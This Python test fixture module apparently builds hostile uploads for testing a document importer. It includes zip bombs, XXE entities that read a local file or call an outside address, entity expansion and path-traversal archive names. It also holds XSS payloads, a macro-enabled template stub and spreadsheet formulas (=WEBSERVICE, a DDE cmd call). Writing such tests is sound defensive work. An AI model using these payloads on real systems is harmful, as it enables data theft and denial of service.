"""Files that nobody saves: bombs within bounds, documents that point elsewhere, pages that loop, texts of noise.

Small, and harmless outside: each is made here, when it is asked for, and none gets past a library.
"""

import base64
import gzip
import io
import zipfile
from collections.abc import Callable
from functools import partial

from openpyxl import Workbook

from tests.importing.documents.writing import ODT_NAMES, W, archive, docx, docx_of_body, odt, odt_of_body, paragraph

Upload = tuple[str, str, bytes]  # kind, name, content
Making = Callable[[], tuple[str, bytes]]
PAGE = ["Actions", "Un jardin partagé", "Structure organisatrice", "- Centre du Parc", "Thèmes", "- Santé"]
UNSEEN = "\u200b"
PIXEL = base64.b64decode("R0lGODlhAQABAAAAACwAAAAAAQABAAA=")


def uploads(elsewhere: str, secret: str) -> dict[str, Callable[[], Upload]]:
    """{what it is: what makes what is sent}. `elsewhere`: an address that must not be asked; `secret`: a file not to be
    read."""
    pages = _documents(elsewhere, secret) | _pages(elsewhere) | _texts()
    return {name: partial(_page, make) for name, make in pages.items()} | _sheets(elsewhere)


def _page(make: Making) -> Upload:
    return ("fiches", *make())


def _xml(doctype: str, words: str) -> str:
    body = f"<w:body>{paragraph('Actions')}<w:p><w:r><w:t>{words}</w:t></w:r></w:p></w:body>"
    return f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{W}">{body}</w:document>'


def _zipped(*entries: tuple[str, bytes], **flags: int) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as written:
        for name, data in entries:
            written.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    data = bytearray(content.getvalue())
    if flags.get("is_locked"):
        # The bit that says « encrypted », in each header of the archive.
        for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            start = data.find(mark)
            while start >= 0:
                data[start + place] |= 1
                start = data.find(mark, start + 4)
    return bytes(data)


def _lying(data: bytes) -> bytes:
    """An archive whose list says that its first part holds a hundred bytes."""
    start = data.index(b"PK\x01\x02") + 24
    return data[:start] + (100).to_bytes(4, "little") + data[start + 4 :]


def _documents(elsewhere: str, secret: str) -> dict[str, Making]:
    good = docx(PAGE)
    nested = '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]>'
    inner = archive(word__document_xml="<a/>")
    for _ in range(20):
        inner = _zipped(("word/document.xml", inner))
    body = "".join(map(paragraph, PAGE))
    return {
        "60 MB of blanks": lambda: ("page.docx", archive(word__document_xml=" " * (60 * 2**20))),
        "90 MB of blanks": lambda: ("page.docx", archive(word__document_xml=" " * (90 * 2**20))),
        "40 MB of styles": lambda: (
            "page.docx",
            archive(word__document_xml="<a/>", word__styles_xml=" " * (40 * 2**20)),
        ),
        "an archive in an archive, twenty times": lambda: ("page.docx", inner),
        "5,000 entries": lambda: ("page.docx", _zipped(*((f"word/{n}.xml", b"") for n in range(5000)))),
        "an entity that is a file": lambda: (
            "page.docx",
            archive(word__document_xml=_xml(f'<!DOCTYPE d [<!ENTITY f SYSTEM "file://{secret}">]>', "&f;")),
        ),
        "an entity that is elsewhere": lambda: (
            "page.docx",
            archive(word__document_xml=_xml(f'<!DOCTYPE d [<!ENTITY f SYSTEM "{elsewhere}a">]>', "&f;")),
        ),
        "a grammar that is elsewhere": lambda: (
            "page.docx",
            archive(word__document_xml=_xml(f'<!DOCTYPE d SYSTEM "{elsewhere}b.dtd">', "mot")),
        ),
        "a parameter entity": lambda: (
            "page.docx",
            archive(word__document_xml=_xml(f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{elsewhere}c"> %p;]>', "mot")),
        ),
        "entities in entities": lambda: ("page.docx", archive(word__document_xml=_xml(nested, "&c;"))),
        "2,000 levels": lambda: ("page.docx", docx_of_body("<w:p>" * 2000 + "</w:p>" * 2000)),
        "5,000 attributes": lambda: (
            "page.docx",
            docx_of_body("<w:p " + " ".join(f'a{n}="x"' for n in range(5000)) + "/>"),
        ),
        "a table in a table, 60 times": lambda: (
            "page.docx",
            docx_of_body("<w:tbl><w:tr><w:tc>" * 60 + body + "</w:tc></w:tr></w:tbl>" * 60),
        ),
        "styles that stand on each other": lambda: (
            "page.docx",
            archive(
                word__document_xml=_xml("", "mot"),
                word__styles_xml=f'<w:styles xmlns:w="{W}"><w:style w:styleId="A"><w:basedOn w:val="B"/></w:style>'
                '<w:style w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>',
            ),
        ),
        "a template that is elsewhere, and macros": lambda: (
            "page.docm",
            archive(
                word__document_xml=_xml("", "mot"),
                word___rels__settings_xml=f'<Relationships><Relationship Target="{elsewhere}d.dotm"/></Relationships>',
                word__vbaProject="Sub AutoOpen()",
            ),
        ),
        "names that climb": lambda: ("page.docx", _zipped(("../../../tmp/x", b"x"), ("word/document.xml", b"<a/>"))),
        "a password": lambda: ("page.docx", _zipped(("word/document.xml", b"<a/>"), is_locked=1)),
        "wrong sums": lambda: ("page.docx", good.replace(b"PK\x01\x02", b"PK\x01\x02", 1)[:60] + b"\0\0\0" + good[63:]),
        "a size that lies": lambda: ("page.docx", _lying(archive(word__document_xml=" " * (90 * 2**20)))),
        "a kind that lies": lambda: (
            "page.odt",
            _lying(archive(mimetype="application/vnd.oasis.opendocument.text" * 2_000_000, content_xml="<a/>")),
        ),
        "cut in the middle": lambda: ("page.docx", good[: len(good) // 2]),
        "an ODT that is cut": lambda: ("page.odt", odt(PAGE)[:300]),
        "an ODT with an entity": lambda: (
            "page.odt",
            archive(
                mimetype="application/vnd.oasis.opendocument.text",
                content_xml=f'<!DOCTYPE d [<!ENTITY f SYSTEM "file://{secret}">]><office:document-content {ODT_NAMES}>'
                "<office:body><office:text><text:p>&f;</text:p></office:text></office:body></office:document-content>",
            ),
        ),
        "a thousand million spaces": lambda: (
            "page.odt",
            odt_of_body('<text:p>a<text:s text:c="999999999"/>b</text:p>' * 50),
        ),
        "an ODT with scripts": lambda: (
            "page.odt",
            odt_of_body(f'<office:scripts/><text:p>a</text:p><text:a xlink="{elsewhere}e">b</text:a>'),
        ),
    }


def _pages(elsewhere: str) -> dict[str, Making]:
    items = "".join(f"<p>{line}</p>" for line in PAGE)
    calls = (
        f'<base href="{elsewhere}"><meta http-equiv="refresh" content="0;url={elsewhere}f"><link rel="import"'
        f' href="g"><script src="h"></script><iframe src="i"></iframe><img src="j" onerror="alert(1)"><object data="k">'
    )
    related = 'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="x"\n\n'
    loop = "Content-Type: message/rfc822\n\n" * 60
    html = "Content-Type: text/html\nContent-Location: cid:me\n\n<iframe src='cid:me'></iframe>"
    return {
        "a page that calls elsewhere": lambda: (
            "page.html",
            f"<html><head>{calls}</head><body>{items}</body></html>".encode(),
        ),
        "scripts in its words": lambda: (
            "page.html",
            f"<html><body>{items}<p>&lt;script&gt;alert(1)&lt;/script&gt;</p></body></html>".encode(),
        ),
        "3,000 levels of a page": lambda: ("page.html", b"<html><body>" + b"<div>" * 3000 + items.encode()),
        "an attribute of 1 MB": lambda: (
            "page.html",
            b'<html><body><p title="' + b"x" * 2**20 + b'">' + items.encode(),
        ),
        "NULs in a page": lambda: ("page.html", b"<html><body>\0\0" + items.replace("a", "a\0").encode()),
        "an encoding that is none": lambda: (
            "page.html",
            b'<html><meta charset="utf-7"><body>+ADw-script+AD4-' + items.encode(),
        ),
        "an encoding of compressed bytes": lambda: ("page.html", b'<html><meta charset="zlib"><body>' + items.encode()),
        "an archive that holds itself": lambda: ("page.mhtml", f"{related}--x\n{loop}{html}\n--x--\n".encode()),
        "an archive in pieces": lambda: ("page.mhtml", (related + f"--x\n{html}\n" * 2000).encode()),
        "an archive without pieces": lambda: ("page.mhtml", related.encode() + b"\0" * 1000),
        "an archive of rubbish": lambda: (
            "page.mhtml",
            f"{related}--x\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\n!!!!====\n--x--".encode(),
        ),
    }


def _texts() -> dict[str, Making]:
    page = "\n".join(PAGE)
    return {
        "NULs": lambda: ("page.txt", page.replace(" ", "\0").encode()),
        "a line of 200,000 characters": lambda: ("page.txt", f"{page}\n{'x' * 200_000}".encode()),
        "300,000 empty lines": lambda: ("page.txt", page.encode() + b"\n" * 300_000),
        "dashes without end": lambda: ("page.txt", f"{page}\n{'- ' * 20_000}".encode()),
        "directions turned round": lambda: ("page.txt", f"{page}\n- \u202e\u2066{UNSEEN * 2000}\ufeff".encode()),
        "bytes of no encoding": lambda: ("page.txt", page.encode() + b"\xff\xfe\xed\xa0\x80\xf8"),
        "a picture": lambda: ("page.txt", PIXEL),
        "a program": lambda: ("page.html", b"MZ\x90\0" + b"\0" * 500),
        "a PDF": lambda: ("page.odt", b"%PDF-1.7\n%%EOF"),
        "compressed": lambda: ("page.txt", gzip.compress(b"\0" * 2**20)),
        "nothing": lambda: ("page.txt", b""),
        "a name that climbs": lambda: ("../../../etc/cron.d/page.txt", page.encode()),
        "a name of markup": lambda: ('"><img src=x onerror=alert(1)>.txt', b"Bonjour"),
        "a name of 300 characters": lambda: ("é" * 300 + ".txt", b"Bonjour"),
        "a title of markup": lambda: ("page.txt", page.replace("Un jardin", "<script>alert(1)</script>").encode()),
    }


def _sheets(elsewhere: str) -> dict[str, Callable[[], Upload]]:
    book = Workbook()
    book.active.append(["id", "titre", "résumé"])
    book.active.append(["1", f'=WEBSERVICE("{elsewhere}l")', "=cmd|' /C calc'!A0"])
    content = io.BytesIO()
    book.save(content)
    names = ("[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml")
    return {
        "a sheet of formulas": lambda: ("tableur", "fiches.xlsx", content.getvalue()),
        "a sheet of 60 MB": lambda: (
            "tableur",
            "fiches.xlsx",
            _zipped(*((name, b" " * (20 * 2**20)) for name in names)),
        ),
        "a sheet whose sizes lie": lambda: (
            "tableur",
            "fiches.xlsx",
            _lying(_zipped(*((name, b" " * 90 * 2**20) for name in names[1:]))),
        ),
        "a sheet with entities": lambda: (
            "tableur",
            "fiches.xlsx",
            _zipped(*((name, f'<!DOCTYPE d SYSTEM "{elsewhere}m"><a/>'.encode()) for name in names)),
        ),
        "a sheet that is cut": lambda: ("tableur", "fiches.xlsx", content.getvalue()[:2000]),
        "formulas in CSV": lambda: ("tableur", "fiches.csv", b'id;titre\n1;"=HYPERLINK(""x"")"\n-1;+1\n@;\0\n'),
        "a cell of 1 MB": lambda: ("tableur", "fiches.csv", b"id;titre\n1;" + b"x" * 2**20),
        "2,000 columns": lambda: ("tableur", "fiches.csv", b";".join([b"titre"] * 2000) + b"\n1\n"),
        "a quote that never ends": lambda: ("centres", "centres.csv", b'nom;commune\n"' + b"x;\n" * 20_000),
        "a directory of NULs": lambda: ("centres", "centres.txt", b"\0" * 50_000),
        "numbers that are none": lambda: ("centres", "centres.csv", "nom;siret;population\nx;²²²;1e400\n".encode()),
    }
